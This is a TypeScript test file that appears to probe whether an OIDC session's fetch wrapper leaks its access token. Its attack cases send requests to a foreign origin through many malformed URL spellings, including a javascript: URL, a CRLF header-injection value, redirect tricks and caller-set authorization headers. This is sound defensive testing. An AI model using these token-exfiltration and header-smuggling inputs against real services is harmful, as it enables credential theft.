import type { Attack } from './attack.ts'

/** Script that uses `session.fetch` to make the token go where it should not, or come back. */
export const REQUESTS: readonly Attack[] = [
  {
    name: 'calls a foreign origin in many spellings',
    when: ['late'],
    run: async ({ take, foreign }) => {
      const { host, port } = new URL(foreign)
      const path = '/oidc/orders'
      const spellings = [
        `${foreign}${path}`,
        `//${host}${path}`,
        `\\\\${host}${path}`,
        `/\\${host}${path}`,
        `http:\\/\\/${host}${path}`,
        `http:///${host}${path}`,
        `${location.origin}@${host}${path}`,
        `http://localhost@${host}${path}`,
        `h\tttp://${host}${path}`,
        `http://${host}\n${path}`,
        `http://localhost.${host}${path}`,
        `HTTP://${host.toUpperCase()}${path}`,
        `http://127.0.0.1:${port}${path}`,
        `http://localhost.:${port}${path}`,
        `http://localhost:1${port.slice(1)}${path}`,
        `https://localhost:${port}${path}`,
        `ws://${host}${path}`,
        `javascript:alert(1)//${location.host}${path}`,
        'data:,x',
        'blob:null/x',
      ]
      for (const url of spellings) {
        for (const input of [url, URL.canParse(url) ? new URL(url) : url]) {
          const answer = await oidcHarness.session.fetch(input).catch(take)
          take(await answer?.text())
        }
      }
    },
  },
  {
    name: 'asks an endpoint that repeats headers',
    when: ['late'],
    run: async ({ take }) => {
      const { session } = oidcHarness
      for (const init of [
        {},
        { headers: { accept: 'text/plain' } },
        { headers: { range: 'bytes=0-99' } },
      ]) {
        await session
          .fetch('/oidc/echo', init)
          .then(async (answer) => take(await answer.text()), take)
      }
      const answer = await session.fetch('/oidc/echo').catch(() => undefined)
      const reader = answer?.clone().body?.getReader()
      for (let piece = await reader?.read(); piece?.value; piece = await reader?.read())
        take(piece.value)
    },
  },
  {
    name: 'uses an API that redirects elsewhere',
    when: ['late'],
    run: async ({ take, foreign }) => {
      const targets = [`${foreign}/oidc/echo`, '/oidc/echo', `//${new URL(foreign).host}/oidc/echo`]
      for (const to of targets) {
        for (const redirect of ['follow', 'manual', 'error', undefined] as const) {
          const url = `/oidc/redirect?to=${encodeURIComponent(to)}`
          const answer = await oidcHarness.session
            .fetch(url, redirect && { redirect })
            .catch(() => undefined)
          if (answer) take([`${answer.status} ${answer.type}`, answer.url, await answer.text()])
        }
      }
    },
  },
  {
    name: 'sets authorization and dpop itself',
    when: ['late'],
    run: async ({ take }) => {
      const { session } = oidcHarness
      const spellings = ['authorization', 'Authorization', 'DPoP', 'dpop', 'AUTHORIZATION']
      for (const name of spellings) {
        const own = await session
          .fetch('/oidc/orders', { headers: { [name]: 'Bearer x' } })
          .catch(() => undefined)
        if (own?.status === 401) take('HARM: the header of the caller went out')
        const request = new Request('/oidc/echo', {
          headers: { [name]: 'Bearer mine-alone-1234567' },
        })
        await session.fetch(request).then(
          async (answer) => take(await answer.text()),
          () => {},
        )
        for (const headers of [
          { [name]: 'x\r\nx-more: 1' },
          [
            [name, 'Bearer a'],
            [name, 'Bearer b'],
          ],
        ]) {
          await session.fetch('/oidc/echo', { headers: headers as never }).then(
            async (answer) => take(await answer.text()),
            () => {},
          )
        }
      }
    },
  },
  {
    name: 'sends the token around by its method, mode and credentials',
    when: ['late'],
    run: async ({ take }) => {
      const inits = [
        { method: 'TRACE' },
        { method: 'HEAD' },
        { method: 'OPTIONS' },
        { mode: 'no-cors' },
        { credentials: 'include' },
        { referrer: '/x', referrerPolicy: 'unsafe-url' },
        { integrity: 'sha256-x' },
        { cache: 'force-cache' },
      ]
      for (const init of inits) {
        const answer = await oidcHarness.session
          .fetch('/oidc/echo', init as RequestInit)
          .catch(() => undefined)
        if (answer) take([[...answer.headers], await answer.text()])
      }
    },
  },
  {
    name: 'calls the API in the user’s name',
    when: ['late'],
    run: async ({ take }) => {
      take(await (await oidcHarness.session.fetch('/oidc/orders')).text())
    },
    admitted: { page: 'session', worker: 'session', 'shared-worker': 'session' },
    because: 'What the app may do, script in its page may do, while it is open.',
  },
]
